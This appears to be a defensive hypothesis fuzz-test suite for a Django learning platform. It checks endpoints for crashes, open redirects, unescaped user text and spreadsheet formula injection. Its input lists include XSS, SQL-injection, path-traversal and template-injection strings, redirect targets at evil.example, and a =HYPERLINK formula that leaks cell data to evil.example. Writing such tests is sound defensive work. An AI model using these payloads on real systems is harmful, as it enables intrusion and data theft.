"""Hostile input against every form and JSON endpoint (property-based, hypothesis).

Whatever arrives, no page answers 500; input that is refused changes nothing in the
database or in storage. Each example runs in a savepoint that is rolled back, so
examples do not see each other's writes. Also: open redirects are refused, and
people's own text (open answers, names, comments) is escaped where it is shown.
"""

import io
import json
import re
import uuid
from contextlib import contextmanager
from urllib.parse import quote, urlsplit

import pytest
from django.contrib.messages import ERROR, get_messages
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.forms import CheckboxInput
from django.http import QueryDict
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from accounts.models import User
from certificates.models import Certificate, CertificateEvent
from classes.models import (
    Assignment,
    AuditEntry,
    Class,
    ClassGroup,
    ClassInvitation,
    Extension,
    Institution,
    Membership,
    RosterAccount,
)
from h5p.models import SavedState, Statement
from learning.models import LessonProgress
from quizzes.models import Attempt
from reports.models import ExportJob, Release
from tests.h5p.fixtures import stored_files

# Each example empties the cache (rate limits): sessions stay in the database.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("caches_off")]

FUZZ = settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FEW = settings(FUZZ, max_examples=25)

# Strings that have broken web applications before.
NASTY = st.sampled_from(
    [
        "",
        " ",
        "\x00",
        "\r\n",
        "<script>alert(1)</script>",
        "' OR 1=1 --",
        "../../../../etc/passwd",
        "%00",
        "%2e%2e%2f",
        "{{ 7*7 }}",
        "${7*7}",
        "\u202eгарно",
        "😀" * 30,
        "9" * 400,
        "-1",
        "0",
        "1e309",
        "NaN",
        "Infinity",
        "null",
        "[]",
        "{}",
        "2026-02-30",
        "9999-12-31T23:59",
        "0000-00-00",
        "2026-7K3M-Q9XD-4HTR",
        "ABCDEFG",
        "²⁰²⁶",  # digits to str.isdigit(), not to int()
        "٢٠٢٦",  # Arabic-Indic digits: int() reads them
        "я" * 5000,
    ]
)
TEXT = st.one_of(NASTY, st.text(max_size=40))
SCALAR = st.one_of(
    TEXT,
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.none(),
)
JSON_VALUE = st.recursive(
    SCALAR,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4)
    ),
    max_leaves=10,
)
# JSON text nested far deeper than any activity sends (Python's parser recurses).
DEEP_JSON = st.integers(min_value=1, max_value=20_000).map(
    lambda levels: '{"a": ' + "[" * levels + "]" * levels + "}"
)


def form_data(fields: list[str]) -> st.SearchStrategy:
    """A form post: the real field names (some left out) and stray ones, each with
    one hostile value or several."""
    names = st.sampled_from(fields) | TEXT
    value = TEXT | st.lists(TEXT, min_size=2, max_size=3)
    return st.dictionaries(names, value, max_size=len(fields) + 2)


def snapshot(*models) -> dict:
    """Every row of the tables, to compare before and after a request."""
    return {
        model._meta.label: list(model.objects.order_by("pk").values())
        for model in models
    }


@contextmanager
def rolled_back():
    with transaction.atomic():
        cache.clear()
        yield
        transaction.set_rollback(True)


def client_for(user=None) -> Client:
    client = Client(raise_request_exception=False)
    if user is not None:
        client.force_login(user)
    return client


def refused(response) -> bool:
    """The request was turned down: an error status, or a message saying why."""
    if response.status_code >= 400:
        return True
    return any(m.level == ERROR for m in get_messages(response.wsgi_request))


def post_json(client, url, body):
    payload = body if isinstance(body, bytes) else json.dumps(body).encode()
    return client.post(url, payload, content_type="application/json")


def assert_error_message(response) -> None:
    """Our endpoints say what was wrong (Django's own 400s, for a body it cannot
    parse, are HTML)."""
    if response["Content-Type"].startswith("application/json"):
        assert response.json()["error"]


LEARNER_TABLES = (Attempt, LessonProgress, Statement, SavedState, Certificate)


# --- quizzes --------------------------------------------------------------------


def quiz_fields(world) -> list[str]:
    questions = world.quiz.questions.raw_data
    return ["seq", "key", "question", *(f"q-{q['id']}" for q in questions)]


@FUZZ
@given(data=st.data())
def test_quiz_autosave_check_and_submit_survive_anything(world, data):
    client = client_for(world.users["other_learner"])
    lesson, activity = world.lesson.pk, world.activity
    endpoint = data.draw(st.sampled_from(["autosave", "check", "submit"]))
    body = data.draw(form_data(quiz_fields(world)))
    if endpoint == "submit" and data.draw(st.booleans()):
        body["key"] = str(uuid.uuid4())
    json_wanted = data.draw(st.booleans())
    with rolled_back():
        before = snapshot(*LEARNER_TABLES)
        response = client.post(
            f"/api/quizzes/{lesson}/{activity}/{endpoint}/",
            body,
            headers={"accept": "application/json"} if json_wanted else {},
        )
        assert response.status_code < 500, response.content[:300]
        if response.status_code >= 400:
            assert snapshot(*LEARNER_TABLES) == before
            assert_error_message(response)


@FEW
@given(
    seconds=TEXT | st.integers().map(str),
    position=TEXT | JSON_VALUE.map(json.dumps),
    end=TEXT,
)
def test_reading_progress_survives_anything(world, seconds, position, end):
    client = client_for(world.learner)
    with rolled_back():
        before = snapshot(LessonProgress)
        response = client.post(
            f"/api/lessons/{world.lesson.pk}/reading/",
            {"seconds": seconds, "position": position, "end": end},
        )
        assert response.status_code < 500
        if response.status_code >= 400:
            assert snapshot(LessonProgress) == before


# --- H5P --------------------------------------------------------------------------

STATEMENT = st.fixed_dictionaries(
    {
        "verb": st.fixed_dictionaries(
            {
                "id": st.sampled_from(
                    [
                        "http://adlnet.gov/expapi/verbs/answered",
                        "http://adlnet.gov/expapi/verbs/completed",
                        "http://adlnet.gov/expapi/verbs/passed",
                    ]
                )
                | TEXT
            }
        )
        | JSON_VALUE,
        "object": st.fixed_dictionaries({"id": TEXT}) | JSON_VALUE,
        "result": st.fixed_dictionaries(
            {
                "score": st.fixed_dictionaries(
                    {"raw": SCALAR, "max": SCALAR, "min": SCALAR}
                )
                | JSON_VALUE,
                "success": SCALAR,
                "completion": SCALAR,
                "duration": TEXT,
            }
        )
        | JSON_VALUE,
        "context": JSON_VALUE,
    }
)


@FUZZ
@given(
    key=st.uuids().map(str) | SCALAR,
    statement=STATEMENT | JSON_VALUE,
    raw=st.none() | st.binary(max_size=200) | DEEP_JSON.map(str.encode),
)
def test_xapi_statements_survive_anything(world, key, statement, raw, media):
    client = client_for(world.learner)
    url = f"/api/h5p/{world.h5p_lesson.pk}/{world.h5p_activity}/xapi/"
    body = raw if raw is not None else {"key": key, "statement": statement}
    with rolled_back():
        before = snapshot(*LEARNER_TABLES), stored_files(media)
        response = post_json(client, url, body)
        assert response.status_code < 500, response.content[:300]
        if response.status_code >= 400:
            assert (snapshot(*LEARNER_TABLES), stored_files(media)) == before
            assert_error_message(response)


@FUZZ
@given(
    endpoint=st.sampled_from(["state", "viewed"]),
    body=st.fixed_dictionaries({"data": SCALAR | JSON_VALUE | DEEP_JSON, "seq": SCALAR})
    | JSON_VALUE
    | st.binary(max_size=200)
    | DEEP_JSON.map(str.encode),
)
def test_h5p_state_and_views_survive_anything(world, endpoint, body, media):
    client = client_for(world.learner)
    url = f"/api/h5p/{world.h5p_lesson.pk}/{world.h5p_activity}/{endpoint}/"
    with rolled_back():
        before = snapshot(*LEARNER_TABLES), stored_files(media)
        response = post_json(client, url, body)
        assert response.status_code < 500, response.content[:300]
        if response.status_code >= 400:
            assert (snapshot(*LEARNER_TABLES), stored_files(media)) == before
        assert client.get(url.replace(endpoint, "state")).status_code == 200


# --- classes ------------------------------------------------------------------------

CLASS_TABLES = (
    Class,
    Membership,
    ClassGroup,
    Assignment,
    Extension,
    AuditEntry,
    ClassInvitation,
    RosterAccount,
)


@FUZZ
@given(code=TEXT, in_path=st.booleans())
def test_join_codes_survive_anything(world, code, in_path):
    client = client_for(world.users["other_learner"])
    with rolled_back():
        before = snapshot(Membership)
        if in_path and code.strip("/") and "/" not in code:
            response = client.get(reverse("join_class_code", args=[code]))
        else:
            response = client.post(reverse("join_class"), {"code": code})
        assert response.status_code < 500
        if response.status_code != 302:  # not joined: the form again, with an error
            assert snapshot(Membership) == before
        else:
            assert code.strip().upper().replace(" ", "").replace("-", "") in {
                world.klass.join_code,
                world.other_class.join_code,
            }


ROSTER_LINE = st.lists(TEXT, min_size=0, max_size=4).map(lambda cells: ";".join(cells))


@FUZZ
@given(
    content=st.one_of(
        st.binary(max_size=400),
        st.lists(ROSTER_LINE, max_size=6).map(lambda lines: "\n".join(lines)),
    ),
    encoding=st.sampled_from(["utf-8", "cp1251", "utf-16"]),
    name=st.sampled_from(["klas.csv", "klas.xlsx", "", "../../x.csv", "спис.CSV"]),
)
def test_a_roster_upload_survives_anything_and_writes_nothing(
    world, content, encoding, name, media
):
    """The preview never writes; confirming a token that is not the preview's
    does nothing either."""
    client = client_for(world.users["teacher"])
    url = reverse("roster_import", args=[world.klass.pk])
    if isinstance(content, str):
        content = content.encode(encoding, errors="replace")
    with rolled_back():
        before = snapshot(User, *CLASS_TABLES), stored_files(media)
        upload = SimpleUploadedFile(name or "x", content, content_type="text/csv")
        response = client.post(url, {"file": upload})
        assert response.status_code < 500, response.content[:300]
        assert (snapshot(User, *CLASS_TABLES), stored_files(media)) == before
        response = client.post(url, {"confirm": "1", "token": name})
        assert response.status_code == 302
        assert (snapshot(User, *CLASS_TABLES), stored_files(media)) == before


TEACHER_FORMS = {
    "class_list": ["institution", "name", "academic_year"],
    "class_regenerate_code": ["valid_days"],
    "class_add_teacher": ["username"],
    "class_group": ["name", "learners"],
    "class_interrupt": ["due_from", "due_to", "shift", "hours", "reason"],
    "class_assign": [
        "course",
        "lesson",
        "group",
        "learners",
        "available_from",
        "due_at",
    ],
    "learner_detail": [
        "action",
        "reason",
        "attempt",
        "question",
        "points",
        "comment",
        "lesson",
        "assignment",
        "due_at",
    ],
}
ACTIONS = st.sampled_from(["grade", "reset", "mark_complete", "remove", "extend"])


@FUZZ
@given(form=st.sampled_from(sorted(TEACHER_FORMS)), data=st.data())
def test_teacher_forms_survive_anything(world, form, data):
    """Every form on the teacher pages; a refused one (error message or form shown
    again) changes nothing."""
    client = client_for(world.users["teacher"])
    body = data.draw(form_data(TEACHER_FORMS[form]))
    if form == "learner_detail":
        body["action"] = data.draw(ACTIONS | TEXT)
        # Real ids now and then, so the checks past the first are reached too.
        if data.draw(st.booleans()):
            body["attempt"] = str(world.attempt.pk)
            body["question"] = world.open_question
            body["lesson"] = str(world.lesson.pk)
            body["assignment"] = str(world.assignment.pk)
        args = [world.klass.pk, world.learner.pk]
    elif form == "class_list":
        args = []
    else:
        args = [world.klass.pk]
    with rolled_back():
        before = snapshot(User, Attempt, LessonProgress, *CLASS_TABLES)
        response = client.post(reverse(form, args=args), body)
        assert response.status_code < 500, response.content[:300]
        if refused(response) or response.status_code == 200:
            assert snapshot(User, Attempt, LessonProgress, *CLASS_TABLES) == before


# --- accounts -------------------------------------------------------------------------

PROFILE_FIELDS = [
    "display_name",
    "preferred_language",
    "institution",
    "last_name",
    "first_name",
    "patronymic",
    "confirm_name",
]


@FUZZ
@given(body=form_data(PROFILE_FIELDS))
def test_the_profile_form_survives_anything(world, body):
    learner = world.learner
    client = client_for(learner)
    with rolled_back():
        before = snapshot(User)
        response = client.post(reverse("profile"), body)
        assert response.status_code < 500
        if response.status_code == 200:  # refused: the form again, with errors
            assert response.context["form"].errors or not body
            assert snapshot(User) == before


@FEW
@given(body=form_data(["login", "password", "remember", "next"]))
def test_the_login_form_survives_anything(world, body):
    with rolled_back():
        response = client_for().post(reverse("account_login"), body)
        assert response.status_code < 500


@FEW
@given(body=form_data(["username", "email", "password1", "password2"]))
def test_the_signup_form_survives_anything(world, body):
    with rolled_back():
        before = User.objects.count()
        response = client_for().post(reverse("account_signup"), body)
        assert response.status_code < 500
        if response.status_code == 200:
            assert User.objects.count() == before


# --- catalogue, reports, certificates ------------------------------------------


@FUZZ
@given(
    query=st.dictionaries(
        st.sampled_from(["q", "audience", "topic", "language", "page"]) | TEXT,
        TEXT,
        max_size=5,
    )
)
def test_catalogue_search_and_filters_survive_anything(world, query):
    url = world.course.get_parent().url
    with rolled_back():
        response = client_for().get(url, query)
        assert response.status_code < 500, response.content[:300]


DASHBOARD = [
    "district",
    "kind",
    "module",
    "granularity",
    "period",
    "institution",
    "export",
    "table",
]


@FUZZ
@given(
    query=st.dictionaries(st.sampled_from(DASHBOARD) | TEXT, TEXT, max_size=6),
    export=st.sampled_from([None, "csv", "xlsx"]),
)
def test_report_filters_survive_anything(world, query, export):
    if export:
        query["export"] = export
    client = client_for(world.users["analyst"])
    with rolled_back():
        before = snapshot(ExportJob)
        response = client.get(reverse("reports_dashboard"), query)
        assert response.status_code < 500, response.content[:300]
        response = client.post(reverse("reports_export_start"), query)
        assert response.status_code < 500
        if response.status_code != 302 or response["Location"] == reverse(
            "reports_dashboard"
        ):
            assert snapshot(ExportJob) == before


@FEW
@given(
    query=st.dictionaries(st.sampled_from(["class", "quiz"]) | TEXT, TEXT, max_size=3),
    role=st.sampled_from(["teacher", "analyst"]),
)
def test_question_analysis_filters_survive_anything(world, query, role):
    with rolled_back():
        response = client_for(world.users[role]).get(
            reverse("reports_questions"), query
        )
        assert response.status_code < 500, response.content[:300]


HUGE_IDS = [str(2**31), str(2**63), "9" * 400, "-1", "1.0", " 1"]


def out_of_scope(world, role: str, param: str, pick: int, junk: str) -> str | None:
    """A class or institution id the role may not analyse: another teacher's class
    (any class for an analyst), an institution for a teacher, ids that do not
    exist, huge ones, junk; None when the pick is in the role's scope after all."""
    analyst = role in ("analyst", "superuser")
    model = Class if param == "class" else Institution
    last = model.objects.order_by("-pk").values_list("pk", flat=True).first()
    if param == "class":
        theirs = {"teacher": world.other_class, "other_teacher": world.klass}
        first = theirs.get(role, world.klass).pk
    else:
        first = world.klass.institution_id
    candidates = [str(first), str(last + 1000), *HUGE_IDS, junk]
    value = candidates[pick % len(candidates)]
    if value == "":
        return None  # nothing asked for: the page's default
    if param == "class":
        in_scope = {"teacher": {world.klass.pk}, "co_teacher": {world.klass.pk}}
        in_scope["other_teacher"] = {world.other_class.pk}
        if value in {str(pk) for pk in in_scope.get(role, ())}:
            return None
    elif analyst and value in {
        str(pk) for pk in Institution.objects.values_list("pk", flat=True)
    }:
        return None
    return value


@FEW
@given(
    role=st.sampled_from(["teacher", "other_teacher", "analyst", "superuser"]),
    param=st.sampled_from(["class", "institution"]),
    pick=st.integers(0, 8),
    junk=TEXT,
    quiz=st.booleans(),
)
def test_question_analysis_shows_nothing_outside_the_role_s_scope(
    world, role, param, pick, junk, quiz
):
    """A class or institution id outside the role's scope answers 404 with a page
    that shows no figures: never 500, never data."""
    value = out_of_scope(world, role, param, pick, junk)
    if value is None:
        return
    query = {param: value}
    if quiz:
        query["quiz"] = str(world.quiz.pk)
    with rolled_back():
        response = client_for(world.users[role]).get(
            reverse("reports_questions"), query
        )
        assert response.status_code == 404, (role, query, response.status_code)
        assert response.context.get("analysis") is None
        assert not response.context.get("quizzes")
        assert world.quiz.title not in response.content.decode()


@FUZZ
@given(
    kind=st.sampled_from(["quarter", "year", "correction"]) | TEXT,
    period=st.sampled_from(["2026-Q1", "2025/2026", "2026Q5", "1/2"]) | TEXT,
    path=st.tuples(TEXT, TEXT, st.sampled_from(["csv", "json"]) | TEXT),
)
def test_releases_survive_anything(world, kind, period, path):
    client = client_for(world.users["analyst"])
    with rolled_back():
        before = snapshot(Release)
        response = client.post(
            reverse("reports_releases"), {"kind": kind, "period": period}
        )
        assert response.status_code < 500, response.content[:300]
        if response.status_code != 302:
            assert response.status_code == 400
            assert snapshot(Release) == before
        slug, table, fmt = path
        response = client_for().get(f"/open-data/releases/{slug}/{table}.{fmt}")
        assert response.status_code < 500


@FEW
@given(
    slug=st.sampled_from(["2026-q1", "1999-q1", "2025-2026"]) | TEXT,
    suffix=st.sampled_from(["report/", "report.pdf"]),
    role=st.sampled_from(["analyst", "teacher", "learner"]),
)
def test_quarterly_reports_survive_any_release_id(world, slug, suffix, role):
    """Any release id, for any role: never a 500, never a report to a non-analyst,
    and nothing changes."""
    with rolled_back():
        before = snapshot(Release)
        response = client_for(world.users[role]).get(
            f"/reports/releases/{quote(slug, safe='')}/{suffix}"
        )
        assert response.status_code < 500
        if role != "analyst":
            assert response.status_code in (403, 404)
        elif response.status_code == 200:
            assert Release.objects.filter(slug=slug).exists()
        assert snapshot(Release) == before


@FUZZ
@given(number=TEXT)
def test_certificate_verification_survives_anything(world, number):
    client = client_for()
    with rolled_back():
        before = snapshot(Certificate, CertificateEvent)
        response = client.get(reverse("certificate_verify_lookup"), {"number": number})
        assert response.status_code < 500
        if number.strip("/") and "/" not in number:
            response = client.get(reverse("certificate_verify", args=[number]))
            assert response.status_code < 500
        assert snapshot(Certificate, CertificateEvent) == before


REGISTRY = ["q", "module", "issued_from", "issued_to", "status", "page"]


@FUZZ
@given(
    query=st.dictionaries(st.sampled_from(REGISTRY) | TEXT, TEXT, max_size=6),
    view=st.sampled_from(
        [
            "certificate_registry",
            "certificate_registry_csv",
            "certificate_registry_xlsx",
        ]
    ),
)
def test_registry_filters_survive_anything(world, query, view):
    with rolled_back():
        response = client_for(world.users["analyst"]).get(reverse(view), query)
        assert response.status_code < 500, response.content[:300]


@FEW
@given(
    form=st.sampled_from(["revoke", "confirm_name"]),
    body=form_data(["reason", "last_name", "first_name", "patronymic", "confirm"]),
)
def test_certificate_forms_survive_anything(world, form, body):
    if form == "revoke":
        user, url = (
            world.users["analyst"],
            reverse("certificate_registry_detail", args=[world.certificate.number]),
        )
    else:
        user, url = (
            world.learner,
            reverse(
                "certificate_confirm_name", args=[world.unnamed_certificate.number]
            ),
        )
    client = client_for(user)
    with rolled_back():
        before = snapshot(User, Certificate, CertificateEvent)
        response = client.post(url, body)
        assert response.status_code < 500
        if response.status_code == 200:  # refused: the form again, with errors
            assert response.context["form"].errors or not body
            assert snapshot(User, Certificate, CertificateEvent) == before


@FEW
@given(name=TEXT)
def test_any_display_name_shows_on_every_teacher_page_and_export(world, name):
    """A learner's chosen name reaches the teacher's pages, downloads and sheet
    titles: none of them breaks on it."""
    teacher = client_for(world.users["teacher"])
    klass, learner = world.klass.pk, world.learner.pk
    grid = reverse("assignment_grid", args=[klass, world.assignment.pk])
    detail = reverse("learner_detail", args=[klass, learner])
    with rolled_back():
        # Every way in (profile form, roster) refuses NUL, which PostgreSQL
        # cannot store; anything else may reach these pages.
        stored = name.replace("\x00", "")[:150]
        User.objects.filter(pk=learner).update(display_name=stored)
        for url in (
            reverse("class_detail", args=[klass]),
            grid,
            f"{grid}?export=csv",
            f"{grid}?export=xlsx",
            detail,
            f"{detail}?export=csv",
            f"{detail}?export=xlsx",
        ):
            response = teacher.get(url)
            assert response.status_code == 200, url


# --- open redirects -----------------------------------------------------------------

OFF_SITE = [
    "//evil.example",
    "https://evil.example",
    "/\\evil.example",
    "///evil.example/",
]


def assert_on_site(location: str) -> None:
    target = urlsplit(location)
    assert target.netloc in ("", "testserver"), location
    assert target.scheme in ("", "http"), location
    assert not location.startswith(("//", "/\\", "\\")), location


@pytest.mark.parametrize("next_url", OFF_SITE)
def test_logging_in_never_sends_anyone_off_site(world, next_url, password):
    client = client_for()
    page = client.get(reverse("account_login"), {"next": next_url})
    assert page.status_code == 200
    response = client.post(
        reverse("account_login"),
        {"login": world.learner.username, "password": password, "next": next_url},
    )
    assert response.status_code == 302
    assert_on_site(response["Location"])
    assert client.get(reverse("my_learning")).status_code == 200  # logged in


@pytest.mark.parametrize("next_url", OFF_SITE)
def test_logging_out_never_sends_anyone_off_site(world, next_url):
    client = client_for(world.learner)
    response = client.post(reverse("account_logout"), {"next": next_url})
    assert response.status_code == 302
    assert_on_site(response["Location"])
    assert client.get(reverse("my_learning")).status_code == 302  # logged out


@pytest.mark.parametrize(
    "path", ["/%2F%2Fevil.example/", "/%2F/evil.example/", "/%5Cevil.example/"]
)
def test_the_language_switcher_never_links_off_site(world, path):
    """On any page, 404s included, the switcher links to our own pages."""
    html = client_for().get(path).content.decode()
    links = re.findall(r'<a href="([^"]*)" hreflang=', html)
    assert len(links) == 1  # the other language
    assert_on_site(links[0])
    for url in re.findall(
        r'<link rel="alternate" hreflang="[^"]+" href="([^"]*)"', html
    ):
        assert_on_site(url)


# --- people's text is escaped where it is shown -------------------------------------

SCRIPT = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


def assert_escaped(response, *, shown=True) -> None:
    assert response.status_code == 200
    html = response.content.decode()
    assert SCRIPT not in html
    if shown:
        assert ESCAPED in html


def test_open_answers_and_teacher_comments_are_escaped(world):
    learner, teacher = client_for(world.learner), client_for(world.users["teacher"])
    lesson, activity, question = world.lesson, world.activity, world.open_question
    response = learner.post(
        f"/api/quizzes/{lesson.pk}/{activity}/submit/",
        {"key": str(uuid.uuid4()), f"q-{question}": SCRIPT},
    )
    assert response.status_code == 302
    attempt = Attempt.objects.filter(learner=world.learner).latest("number")
    assert attempt.responses[question] == SCRIPT
    detail = reverse("learner_detail", args=[world.klass.pk, world.learner.pk])
    assert_escaped(teacher.get(detail))
    response = teacher.post(
        detail,
        {
            "action": "grade",
            "attempt": attempt.pk,
            "question": question,
            "points": "1",
            "comment": SCRIPT + " comment",
        },
    )
    assert response.status_code == 302
    attempt.refresh_from_db()
    assert attempt.results[question]["feedback"] == [SCRIPT + " comment"]
    assert_escaped(learner.get(reverse("my_learning")))
    assert_escaped(learner.get(lesson.url))
    assert_escaped(teacher.get(detail))


def test_display_names_are_escaped_on_the_teacher_pages(world):
    learner, teacher = client_for(world.learner), client_for(world.users["teacher"])
    response = learner.post(
        reverse("profile"),
        {"display_name": SCRIPT, "preferred_language": "uk", "last_name": SCRIPT},
    )
    assert response.status_code == 302
    assert_escaped(learner.get(reverse("profile")))
    klass = world.klass.pk
    assert_escaped(teacher.get(reverse("class_detail", args=[klass])))
    assert_escaped(
        teacher.get(reverse("assignment_grid", args=[klass, world.assignment.pk]))
    )
    assert_escaped(
        teacher.get(reverse("learner_detail", args=[klass, world.learner.pk]))
    )


def test_roster_names_are_escaped_in_the_preview_cards_and_class(world):
    teacher = client_for(world.users["teacher"])
    url = reverse("roster_import", args=[world.klass.pk])
    roster = f"Прізвище;Ім'я\n{SCRIPT};Олена\nКоваль;{SCRIPT}\n".encode()
    preview = teacher.post(
        url, {"file": SimpleUploadedFile("klas.csv", roster, content_type="text/csv")}
    )
    assert_escaped(preview)
    token = preview.context["token"]
    response = teacher.post(url, {"confirm": "1", "token": token})
    assert response.status_code == 302
    assert User.objects.filter(last_name=SCRIPT).exists()
    assert_escaped(teacher.get(response["Location"]))  # the login cards
    assert_escaped(teacher.get(reverse("class_detail", args=[world.klass.pk])))


def test_class_names_and_revocation_reasons_are_escaped(world):
    teacher = client_for(world.users["teacher"])
    Class.objects.filter(pk=world.klass.pk).update(name=SCRIPT)
    assert_escaped(teacher.get(reverse("class_list")))
    assert_escaped(teacher.get(reverse("class_detail", args=[world.klass.pk])))
    learner = client_for(world.users["other_learner"])
    response = learner.post(reverse("join_class"), {"code": world.klass.join_code})
    assert response.status_code == 302
    assert_escaped(learner.get(response["Location"]))  # "You have joined …"
    analyst = client_for(world.users["analyst"])
    detail = reverse("certificate_registry_detail", args=[world.certificate.number])
    assert analyst.post(detail, {"reason": SCRIPT}).status_code == 302
    assert_escaped(analyst.get(detail))


def test_spreadsheet_downloads_never_run_peoples_text_as_formulas(world):
    """A name like =HYPERLINK(…) stays text in the teacher's CSV and XLSX."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Оцінки")'
    User.objects.filter(pk=world.learner.pk).update(display_name=formula)
    teacher = client_for(world.users["teacher"])
    grid = reverse("assignment_grid", args=[world.klass.pk, world.assignment.pk])
    text = teacher.get(grid, {"export": "csv"}).content.decode("utf-8-sig")
    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in text
    workbook = load_workbook(io.BytesIO(teacher.get(grid, {"export": "xlsx"}).content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    name = next(cell for cell in cells if cell.value == formula)
    assert name.data_type == "s"


def test_an_autosave_numbered_by_the_clock_is_kept_and_junk_numbers_refused(world):
    """The page numbers autosaves with Date.now() (milliseconds since 1970), more
    than PostgreSQL's integer holds; a number beyond a big integer is refused."""
    client = client_for(world.learner)
    url = f"/api/quizzes/{world.lesson.pk}/{world.activity}/autosave/"
    field = f"q-{world.open_question}"
    response = client.post(url, {field: "Чернетка", "seq": "1764253800123"})
    assert response.json() == {"saved": True, "seq": 1764253800123}
    for junk in ("9" * 30, "-5"):
        response = client.post(url, {field: "інше", "seq": junk})
        assert response.status_code == 400
        assert response.json()["error"]
    attempt = Attempt.objects.get(learner=world.learner, status=Attempt.IN_PROGRESS)
    assert attempt.responses[world.open_question] == "Чернетка"


def test_numbers_that_are_not_numbers_are_refused_not_a_500(world):
    """str.isdigit() says yes to "²", int() says no: each case once, by name."""
    teacher = client_for(world.users["teacher"])
    before = snapshot(Class, AuditEntry)
    response = teacher.post(
        reverse("class_list"),
        {
            "institution": world.klass.institution_id,
            "name": "9-Д",
            "academic_year": "²⁰²⁶/²⁰²⁷",
        },
    )
    assert response.status_code == 200
    assert response.context["form"].errors["academic_year"]
    detail = reverse("learner_detail", args=[world.klass.pk, world.learner.pk])
    for attempt in ("", "²", "1.0"):
        response = teacher.post(
            detail, {"action": "grade", "attempt": attempt, "points": "1"}
        )
        assert response.status_code == 404
    assert snapshot(Class, AuditEntry) == before
    for role in ("teacher", "analyst"):
        response = client_for(world.users[role]).get(
            reverse("reports_questions"), {"class": "²"}
        )
        assert response.status_code == 404


@FEW
@given(
    ids=TEXT
    | st.lists(st.integers(-5, 10**12), max_size=60).map(
        lambda ids: ",".join(map(str, ids))
    )
)
def test_offline_version_checks_survive_anything(world, ids):
    response = client_for(world.learner).get(reverse("offline_versions"), {"ids": ids})
    assert response.status_code in (200, 400)
    body = response.json()
    assert ("versions" in body) == (response.status_code == 200)
    assert ("error" in body) == (response.status_code == 400)


@FEW
@given(body=form_data(["offline_auto_save"]))
def test_the_offline_setting_form_survives_anything(world, body):
    learner = world.learner
    with rolled_back():
        response = client_for(learner).post(reverse("offline_saved"), body)
        # A checkbox: any post is on or off, unless Django refuses an oversized one.
        assert response.status_code in (302, 400)
        learner.refresh_from_db()
        if response.status_code == 400:
            assert learner.offline_auto_save is True
            return
        # As the browser's checkbox means it: absent, empty or "false" is off.
        posted = QueryDict(mutable=True)
        for name, value in body.items():
            posted.setlist(name, value if isinstance(value, list) else [value])
        expected = CheckboxInput().value_from_datadict(posted, {}, "offline_auto_save")
        assert learner.offline_auto_save == expected
